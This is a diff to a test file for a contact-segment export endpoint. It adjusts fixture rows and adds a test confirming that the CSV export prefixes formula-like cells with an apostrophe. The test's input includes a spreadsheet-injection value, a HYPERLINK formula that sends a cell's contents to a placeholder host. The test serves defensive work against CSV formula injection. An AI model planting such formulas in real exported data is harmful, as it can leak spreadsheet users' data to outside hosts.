@@ -12,10 +12,10 @@ import { segmentContactPages } from './segment-contact-rows.js'
 
 const CSV = [
   'Line No.,Contact No.,Name,Company No.,Company Name,Type,Job Title,Address,Address 2,Post Code,City,Country/Region Code,Phone No.,Mobile Phone No.,Email,Language Code,Salesperson Code,Correspondence Type',
-  '10000,K1,Alpha Ltd,K1,Alpha Ltd,Company,,"1 Main St, ""Rear""",,EC1A 1BB,London,GB,+44 20 1234,,info@alpha.example,ENU,JR,Email',
-  '20000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,+44 7700 1,ann@alpha.example,,,Hard Copy',
+  `10000,K1,Alpha Ltd,K1,Alpha Ltd,Company,,"1 Main St, ""Rear""",,EC1A 1BB,London,GB,'+44 20 1234,,info@alpha.example,ENU,JR,Email`,
+  `20000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,'+44 7700 1,ann@alpha.example,,,Hard Copy`,
   '30000,GONE,,,,,,,,,,,,,,,,',
-  '40000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,+44 7700 1,ann@alpha.example,,,Hard Copy',
+  `40000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,'+44 7700 1,ann@alpha.example,,,Hard Copy`,
   '',
 ].join('\n')
 
@@ -101,7 +101,8 @@ describe.each(dialects)('exporting a segment on %s', (dialect) => {
     expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
     expect(res.headers['content-disposition']).toBe('attachment; filename="segment-SM1.xlsx"')
     const rows = await readXlsx(res.rawPayload)
-    const expected = parse(CSV) as string[][]
+    // XLSX cells are typed text: the ' the CSV puts before a leading + (formula-cells.ts) is not there.
+    const expected = (parse(CSV) as string[][]).map((r) => r.map((c) => c.replace(/^'\+/, '+')))
     expect(rows).toEqual([['Segment SM1'], ...expected.map((r, i) => (i === 0 ? r : [Number(r[0]), ...r.slice(1)]))])
   })
 
@@ -182,6 +183,36 @@ describe.each(dialects)('exporting a segment on %s', (dialect) => {
     },
     180_000,
   )
+
+  it("neutralises formulas in the CSV export with a leading ' and keeps the line numbers numbers", async () => {
+    // Given a contact on the segment whose name and city a spreadsheet would run as formulas
+    const db = t.db.kysely
+    const was = await db
+      .selectFrom('contacts')
+      .select(['name', 'city'])
+      .where('no', '=', 'K1')
+      .executeTakeFirstOrThrow()
+    await db
+      .updateTable('contacts')
+      .set({ name: '=HYPERLINK("http://x/?"&A1)', city: '@SUM(1)' })
+      .where('no', '=', 'K1')
+      .execute()
+    try {
+      // When the segment is exported as CSV
+      const r = await t.viewer.raw({ method: 'GET', url: '/api/segments/SM1/export?format=csv' })
+      // Then those cells start with ', the line number stays a bare number
+      const row = (parse(r.body) as string[][])[1]
+      expect([row[0], row[1], row[2], row[10], row[12]]).toEqual([
+        '10000',
+        'K1',
+        `'=HYPERLINK("http://x/?"&A1)`,
+        "'@SUM(1)",
+        "'+44 20 1234",
+      ])
+    } finally {
+      await db.updateTable('contacts').set(was).where('no', '=', 'K1').execute()
+    }
+  })
 })
 
 /** A bearer header of the viewer (raw inject keeps the binary body as a buffer). */
